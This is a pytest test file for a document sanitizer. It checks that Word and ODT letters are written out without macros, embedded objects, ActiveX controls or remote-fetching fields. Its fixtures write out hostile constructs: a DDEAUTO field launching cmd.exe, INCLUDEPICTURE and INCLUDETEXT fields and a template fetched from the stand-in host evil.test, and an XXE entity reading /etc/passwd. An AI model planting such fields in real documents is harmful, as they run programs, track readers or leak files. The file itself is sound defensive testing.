"""A letter that leaves as a Word file or odt carries nothing of a stranger's that runs or fetches anything."""

import io
import re
import zipfile

import pytest
from letter_files import docx, odt
from lxml import etree

from biasprint.core.errors import AppError
from biasprint.core.letters.files import document_of_text, read_bytes
from biasprint.core.letters.word import Comment, word_file

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
NAMES = (
    f'xmlns:w="{W}" xmlns:r="{OFFICE}" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
)
DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'


def field(words: str, shown: str) -> str:
    """A field, its instruction in two runs."""
    middle = len(words) // 2
    parts = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (words[:middle], words[middle:]))
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{parts}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{shown}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


BODY = f"""<w:document {NAMES}><w:body>
<w:p><w:r><w:t xml:space="preserve">She is a warm colleague; see </w:t></w:r><w:hyperlink r:id="x1"><w:r><w:t>her page</w:t></w:r></w:hyperlink><w:r><w:t>.</w:t></w:r></w:p>
<w:p>{field(DDE, "Shown by DDE")}<w:r><w:t xml:space="preserve"> on page </w:t></w:r>{field(" PAGE ", "1")}</w:p>
<w:p>{field('INCLUDEPICTURE "http://evil.test/track.png"', "A picture")}
<w:fldSimple w:instr='INCLUDETEXT "http://evil.test/x.docx"'><w:r><w:t>Included words</w:t></w:r></w:fldSimple></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{field("QUOTE 68 68 69", "DDE")}<w:r><w:instrText> cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>Hidden instruction.</w:t></w:r></w:p>
<w:p><w:r><w:object><v:shape style="width:9pt"><v:imagedata r:id="x2" o:href="http://evil.test/a.png"/></v:shape><o:OLEObject Type="Embed" ProgID="Package" r:id="x3"/></w:object></w:r><w:r><w:t>An object.</w:t></w:r></w:p>
<w:p><w:r><w:drawing><a:blip r:embed="x2" r:link="x4"/></w:drawing></w:r><w:r><w:control r:id="x5" w:name="Box"/></w:r><w:r><w:t>A picture and a control.</w:t></w:r></w:p>
<w:altChunk r:id="x6"/><w:subDoc r:id="x7"/>
<w:sectPr/></w:body></w:document>"""  # noqa: E501
RELATED = {
    "x1": ("hyperlink", "http://evil.test/page", True),
    "x2": ("image", "media/image1.png", False),
    "x3": ("oleObject", "embeddings/oleObject1.bin", False),
    "x4": ("image", "http://evil.test/linked.png", True),
    "x5": ("control", "activeX/activeX1.xml", False),
    "x6": ("aFChunk", "afchunk.html", False),
    "x7": ("subDocument", "file:///c:/other.docx", True),
    "x8": ("customXml", "../customXml/item1.xml", False),
    "x9": ("image", "../../../outside.png", False),
}
ADDED = {
    "word/media/image1.png": b"\x89PNG picture",
    "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 EVIL object",
    "word/activeX/activeX1.xml": b"<x>EVIL control</x>",
    "word/activeX/activeX1.bin": b"EVIL control",
    "word/afchunk.html": b"<script>EVIL()</script>",
    "word/vbaProject.bin": b"EVIL macro",
    "word/vbaData.xml": b"<x>EVIL</x>",
    "customXml/item1.xml": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e; EVIL</x>',
    "nobody/refers/to.exe": b"EVIL program",
    "word/_rels/settings.xml.rels": (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="s1" '
        f'Type="{OFFICE}/attachedTemplate" Target="http://evil.test/t.dotm" TargetMode="External"/></Relationships>'
    ).encode(),
    "word/settings.xml": (
        f'<w:settings {NAMES}><w:attachedTemplate r:id="s1"/><w:mailMerge><w:connectString w:val="evil.test"/>'
        "</w:mailMerge></w:settings>"
    ).encode(),
}  # fmt: skip


def hostile() -> bytes:
    """A docm with everything that runs or fetches something."""
    related = "".join(
        f'<Relationship Id="{name}" Type="{OFFICE}/{kind}" Target="{target}"{" TargetMode=" + chr(34) + "External" + chr(34) if away else ""}/>'  # noqa: E501
        for name, (kind, target, away) in RELATED.items()
    )
    macros = '<Relationship Id="m1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'  # noqa: E501
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx())) as old, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.namelist():
            data = old.read(part)
            if part == "word/document.xml":
                data = BODY.encode()
            elif part == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", (related + macros + "</Relationships>").encode())
            elif part == "[Content_Types].xml":
                usual = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
                data = data.replace(usual, b"application/vnd.ms-word.document.macroEnabled.main+xml")
                data = data.replace(
                    b"</Types>",
                    b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override '
                    b'PartName="/word/activeX/activeX1.xml" ContentType="application/x-active"/></Types>',
                )
            if part not in ADDED:
                new.writestr(part, data)
        for part, data in ADDED.items():
            new.writestr(part, data)
    return stream.getvalue()


def inside(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@pytest.mark.parametrize("tracked", [True, False])
def test_nothing_that_runs_or_fetches_leaves_with_a_word_file(tracked: bool) -> None:
    data = hostile()
    before = read_bytes(data, "letter.docm").text

    made = word_file(
        data, "letter.docm", before, before.replace("warm", "able"), [Comment(0, 3, "Look")], tracked=tracked
    )

    assert made.ending == "docx"
    parts = inside(made.data)
    everything = b"\n".join(parts.values())
    for word in (b"EVIL", b"evil.test", b"DDE c", b"DDEAUTO", b"INCLUDE", b"QUOTE", b"External", b"macroEnabled"):
        assert word not in everything, word
    assert not [name for name in parts if re.search(r"vba|embeddings|activeX|afchunk|customXml|\.exe", name)]
    assert parts["word/media/image1.png"] == ADDED["word/media/image1.png"]
    text = read_bytes(made.data, "letter.docx").text
    for words in ("able colleague", "her page", "Shown by DDE on page 1", "Included words", "An object."):
        assert words in text
    assert b" PAGE " in parts["word/document.xml"].replace(b"</w:instrText></w:r><w:r><w:instrText>", b"")
    assert made.notes[-1] == (
        "What could run or fetch something was left out: controls, custom data, embedded objects, fields that fetch "
        "something or start a program, its template's address, linked pictures, macros, other documents in it, sources "
        "of data, the addresses of links."
    )


def test_what_stays_refers_to_nothing_that_is_gone() -> None:
    data = hostile()
    before = read_bytes(data, "letter.docm").text
    parts = inside(word_file(data, "letter.docm", before, before).data)

    relations = etree.fromstring(parts["word/_rels/document.xml.rels"])
    known = {relation.get("Id") for relation in relations}
    used = {
        value
        for element in etree.fromstring(parts["word/document.xml"]).iter()
        for name, value in element.attrib.items()
        if name.startswith(f"{{{OFFICE}}}")
    }
    assert used == {"x2"}
    assert used <= known
    for relation in relations:
        assert f"word/{relation.get('Target')}" in parts
    for entry in etree.fromstring(parts["[Content_Types].xml"]):
        assert entry.get("PartName") is None or entry.get("PartName")[1:] in parts


def test_an_entity_in_a_part_that_stays_is_refused() -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx())) as old, zipfile.ZipFile(stream, "w") as new:
        for part in old.namelist():
            evil = part == "word/styles.xml"
            new.writestr(part, b'<!DOCTYPE x [<!ENTITY e "x">]><x>&e;</x>' if evil else old.read(part))
    data = stream.getvalue()

    with pytest.raises(AppError, match="is not built like a letter"):
        word_file(data, "letter.docx", read_bytes(docx(), "letter.docx").text, "Dear all,")


def test_a_letter_without_any_of_it_is_told_nothing() -> None:
    text = read_bytes(docx(), "letter.docx").text
    assert word_file(docx(), "letter.docx", text, text).notes == ()
    assert word_file(None, "pasted", document_of_text("Dear all,").text, "Dear all,").notes == ()


ODT_EVIL = (
    '<text:p><text:a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="http://evil.test/">her page</text:a> and '
    '<text:dde-connection office:name="EVIL">shown</text:dde-connection> and more.</text:p><text:p><draw:frame '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"><draw:object '
    'xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="./Object 1"/><draw:image '
    'xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="http://evil.test/a.png"/></draw:frame></text:p>'
)


def test_nothing_that_runs_or_fetches_leaves_with_an_odt() -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(odt())) as old, zipfile.ZipFile(stream, "w") as new:
        for part in old.namelist():
            body = old.read(part)
            new.writestr(part, body.replace(b"</office:text>", ODT_EVIL.encode() + b"</office:text>"))
        for part in ("Basic/Standard/Module1.xml", "Scripts/python/evil.py", "Object 1/content.xml"):
            new.writestr(part, b"<x>EVIL</x>")
    before = read_bytes(stream.getvalue(), "letter.odt").text
    assert "her page" in before

    made = word_file(stream.getvalue(), "letter.odt", before, before)

    everything = b"\n".join(inside(made.data).values())
    assert b"EVIL" not in everything
    assert b"evil.test" not in everything
    assert "her page and" in read_bytes(made.data, "letter.odt").text
    assert "the addresses of links" in made.notes[-1]
    assert "linked pictures" in made.notes[-1]
